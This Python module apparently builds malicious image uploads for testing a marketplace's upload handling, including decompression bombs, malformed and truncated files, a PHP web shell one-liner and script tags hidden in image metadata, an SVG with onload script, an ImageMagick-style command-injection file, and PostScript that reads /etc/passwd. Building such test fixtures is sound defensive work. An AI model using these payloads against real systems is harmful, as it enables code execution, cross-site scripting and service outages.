"""Files that somebody would upload to break the market: made here, each from what it is meant to strain."""

import io
import struct
import zlib
from collections.abc import Iterator

from PIL import Image, ImageCms
from PIL.PngImagePlugin import PngInfo

PNG = b"\x89PNG\r\n\x1a\n"


def chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png(
    width: int, height: int, *, depth: int = 1, colour: int = 0, before: bytes = b"", rows: bytes | None = None
) -> bytes:
    """A PNG that claims a size; its rows compress to nearly nothing."""
    body = rows if rows is not None else zlib.compress(b"\0" * 200_000, 9)
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))
    return PNG + head + before + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def saved(picture: Image.Image, kind: str, **options: object) -> bytes:
    held = io.BytesIO()
    picture.save(held, kind, **options)
    return held.getvalue()


def whole_png(side: int) -> bytes:
    """A sound one-bit picture of side × side in a few kilobytes."""
    rows = zlib.compressobj(9)
    row = b"\0" + b"\0" * ((side + 7) // 8)
    packed = b"".join(rows.compress(row) for _ in range(side)) + rows.flush()
    return png(side, side, rows=packed)


def many_scans(count: int) -> bytes:
    """A progressive JPEG that goes over its pixels again and again: the last refinement, repeated."""
    first = saved(Image.effect_noise((2_000, 2_000), 20), "JPEG", progressive=True, quality=10)
    end = first.rindex(b"\xff\xd9")
    last = first.rindex(b"\xff\xda")
    return first[:end] + first[last : last + 10] * count + first[end:]


def made() -> Iterator[tuple[str, bytes]]:
    """Every file, by what it is."""
    red = Image.new("RGB", (320, 200), (200, 30, 30))
    yield from _sizes(red)
    yield from _hidden(red)
    yield from _odd(red)


def _sizes(red: Image.Image) -> Iterator[tuple[str, bytes]]:
    yield "empty", b""
    yield "bomb-50000.png", png(50_000, 50_000)
    yield "bomb-within-the-sides.png", png(7_999, 7_999)
    yield "sound-5000x5000.png", whole_png(5_000)
    yield "sound-7900x7900.png", whole_png(7_900)
    yield "rgba-5000x5000.png", saved(Image.new("RGBA", (5_000, 5_000), (1, 2, 3, 4)), "PNG")
    yield "rgb-5000x5000.webp", saved(Image.new("RGB", (5_000, 5_000), (1, 2, 3)), "WEBP")
    yield "rgba-4000x4000.webp", saved(Image.new("RGBA", (4_000, 4_000), (1, 2, 3, 4)), "WEBP")
    yield "rgb-5000x5000.jpg", saved(Image.new("RGB", (5_000, 5_000), (1, 2, 3)), "JPEG")
    yield "rgb-5000x5000.avif", saved(Image.new("RGB", (5_000, 5_000), (1, 2, 3)), "AVIF", speed=10)
    yield "wide.png", saved(Image.new("RGB", (8_000, 1)), "PNG")
    yield "high.png", saved(Image.new("RGB", (1, 8_000)), "PNG")
    yield "too-wide.png", png(9_000, 10)
    yield "no-width.png", png(0, 10)
    yield "negative.png", png(2**31, 2**31)
    jpeg = saved(red, "JPEG")
    start = jpeg.index(b"\xff\xc0")
    yield "bomb.jpg", jpeg[: start + 5] + struct.pack(">HH", 65_500, 65_500) + jpeg[start + 9 :]
    yield "no-height.jpg", jpeg[: start + 5] + struct.pack(">HH", 0, 320) + jpeg[start + 9 :]
    webp = saved(red, "WEBP", exif=b"Exif\0\0" + b"x" * 9)
    place = webp.index(b"VP8X") + 12
    yield "bomb.webp", webp[:place] + b"\xff\xff\xff" * 2 + webp[place + 6 :]
    avif = saved(red, "AVIF")
    place = avif.index(b"ispe") + 8
    yield "bomb.avif", avif[:place] + struct.pack(">II", 60_000, 60_000) + avif[place + 8 :]
    yield "many-scans.jpg", many_scans(20_000)
    for kind, content in (("jpg", jpeg), ("png", saved(red, "PNG")), ("webp", saved(red, "WEBP")), ("avif", avif)):
        for part in (1, 4, 9):
            yield f"cut-{part}.{kind}", content[: len(content) * part // 10]
        yield f"flipped.{kind}", bytes(each ^ (0xFF if place % 97 == 60 else 0) for place, each in enumerate(content))


def _hidden(red: Image.Image) -> Iterator[tuple[str, bytes]]:
    words = PngInfo()
    words.add_text("Comment", "<?php system($_GET[0]); ?><script>alert(1)</script>")
    yield "text.png", saved(red, "PNG", pnginfo=words)
    yield "tail.png", saved(red, "PNG") + b"<script>alert(1)</script><?php ?>"
    yield "zip.jpg", saved(red, "JPEG") + b"PK\x03\x04<script>"
    yield "comment.jpg", saved(red, "JPEG", comment=b"*/=alert(1)/*<script>")
    yield "gifar.gif", b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)"
    yield "script.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
    yield "entities.svg", b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><svg>&b;</svg>'
    yield "page.png", b"<html><body><script>alert(1)</script>"
    yield (
        "command.jpg",
        b"push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://x/|touch /tmp/owned)'\npop graphic-context",
    )
    yield "postscript.jpg", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) (r) file\n"
    bomb = zlib.compress(b"\0" * 80_000_000, 9)
    yield "text-bomb.png", png(8, 8, before=chunk(b"zTXt", b"Comment\0\0" + bomb))
    yield "international-bomb.png", png(8, 8, before=chunk(b"iTXt", b"Comment\0\1\0\0\0" + bomb))
    yield "profile-bomb.png", png(8, 8, before=chunk(b"iCCP", b"x\0\0" + bomb))
    yield "rows-bomb.png", png(8, 8, rows=bomb)
    yield "many-chunks.png", png(8, 8, before=chunk(b"tEXt", b"a\0b") * 100_000)


def _odd(red: Image.Image) -> Iterator[tuple[str, bytes]]:
    blue = Image.new("RGB", (320, 200), (30, 30, 200))
    for kind in ("GIF", "WEBP", "PNG", "AVIF"):
        yield f"animated.{kind.lower()}", saved(red, kind, save_all=True, append_images=[blue] * 3)
    yield "frames.gif", saved(red, "GIF", save_all=True, append_images=[blue, red] * 200)
    for kind in ("GIF", "BMP", "TIFF", "ICO", "PPM", "TGA", "PCX", "PDF"):
        yield f"other.{kind.lower()}", saved(red, kind)
    srgb = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    yield "profile.jpg", saved(red, "JPEG", icc_profile=srgb)
    yield (
        "profile-of-lab.jpg",
        saved(red, "JPEG", icc_profile=ImageCms.ImageCmsProfile(ImageCms.createProfile("LAB")).tobytes()),
    )
    yield "profile-cut.jpg", saved(red, "JPEG", icc_profile=srgb[:200])
    yield "profile-of-noise.png", saved(red, "PNG", icc_profile=b"\xff" * 5_000)
    yield "profile-for-another-mode.jpg", saved(red.convert("CMYK"), "JPEG", icc_profile=srgb)
    yield "inks.jpg", saved(red.convert("CMYK"), "JPEG")
    yield "grey.jpg", saved(red.convert("L"), "JPEG")
    yield "sixteen-bits.png", saved(Image.new("I;16", (320, 200), 40_000), "PNG")
    yield "one-bit.png", saved(red.convert("1"), "PNG")
    yield "palette.png", saved(red.convert("P"), "PNG", transparency=0)
    yield "grey-with-holes.png", saved(red.convert("LA"), "PNG")
    yield "holes.webp", saved(Image.new("RGBA", (320, 200), (9, 9, 9, 0)), "WEBP")
    yield "metadata-of-noise.jpg", saved(red, "JPEG", exif=b"Exif\0\0" + b"II*\0\xff\xff\xff\xff" + b"\xff" * 3_000)
    turned = Image.Exif()
    turned[0x0112] = 99
    yield "turned-99.jpg", saved(red, "JPEG", exif=turned)
